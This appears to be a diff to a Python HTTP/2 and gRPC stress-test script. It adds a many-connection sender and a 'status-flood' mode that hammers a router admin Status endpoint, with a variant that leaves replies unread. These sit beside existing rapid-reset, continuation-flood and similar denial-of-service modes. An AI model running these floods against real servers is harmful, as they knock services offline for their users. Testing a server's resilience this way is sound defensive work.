@@ -7,6 +7,7 @@ Ends with one JSON line: how often it tried.
 import gzip
 import json
 import select
+import selectors
 import socket
 import struct
 import sys
@@ -269,7 +270,7 @@ def request_headers(path):
         (b"content-type", b"application/grpc"), (b"te", b"trailers")])
 
 
-HEADERS, RESET, SETTINGS, CONTINUATION = 1, 3, 4, 9
+DATA, HEADERS, RESET, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
 END_STREAM, END_HEADERS = 1, 4
 
 
@@ -332,6 +333,67 @@ def rapid_reset(address, goes, path=GENERATE):
     return raw(address, goes, b"", more)
 
 
+def many(address, goes, count, more, reads=True):
+    """As raw, on so many connections at once; what is answered is read, or not."""
+    host, port = address.rsplit(":", 1)
+    ready = selectors.DefaultSelector()
+    tries = 0
+
+    class Sender:
+        def __init__(self):
+            self.socket = socket.socket()
+            if not reads:
+                self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
+            self.socket.settimeout(1)
+            self.socket.connect((host, int(port)))
+            self.socket.setblocking(False)
+            self.left = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
+            self.stream = 1
+            ready.register(self.socket, selectors.EVENT_WRITE | (selectors.EVENT_READ if reads else 0), self)
+
+        def go_on(self, events):
+            nonlocal tries
+            if events & selectors.EVENT_READ and not self.socket.recv(1 << 16):
+                raise ConnectionError("closed")
+            if not events & selectors.EVENT_WRITE:
+                return
+            if not self.left:
+                self.left, began = more(self.stream)
+                self.stream += 2 * began
+                tries += began
+            self.left = self.left[self.socket.send(self.left):]
+
+    while goes():
+        while len(ready.get_map()) < count and goes():
+            try:
+                Sender()
+            except OSError:
+                break
+        for key, events in ready.select(0.1):
+            try:
+                key.data.go_on(events)
+            except BlockingIOError:
+                pass
+            except OSError:
+                ready.unregister(key.fileobj)
+                key.fileobj.close()
+    return tries
+
+
+STATUS = "/prefixmesh.v1.RouterAdmin/Status"
+
+
+def status_flood(address, goes, reads=True):
+    """Status calls from many connections, as fast as they are taken."""
+    block = request_headers(STATUS)
+
+    def more(stream):
+        return b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block) +
+                        frame(DATA, END_STREAM, stream + 2 * i, bytes(5)) for i in range(20)), 20
+
+    return many(address, goes, 20, more, reads)
+
+
 def on_sync(attack):
     return lambda address, goes: attack(address, goes, EXCHANGE)
 
@@ -341,7 +403,8 @@ MODES = {"continuation-flood": continuation_flood, "header-references": header_r
          "continuation-flood-sync": on_sync(continuation_flood), "header-references-sync": on_sync(header_references),
          "header-bytes-sync": on_sync(header_bytes), "rapid-reset-sync": on_sync(rapid_reset),
          "untaken": untaken, "half-sent": half_sent, "half-sent-health": half_sent_health, "endless-frame": endless_frame, "inflated": inflated,
-         "silent-connections": silent_connections, "measuring-calls": measuring_calls}
+         "silent-connections": silent_connections, "measuring-calls": measuring_calls,
+         "status-flood": status_flood, "status-untaken": lambda address, goes: status_flood(address, goes, False)}
 
 if __name__ == "__main__":
     print(json.dumps({"tries": MODES[sys.argv[1]](sys.argv[2], until(float(sys.argv[3])))}))
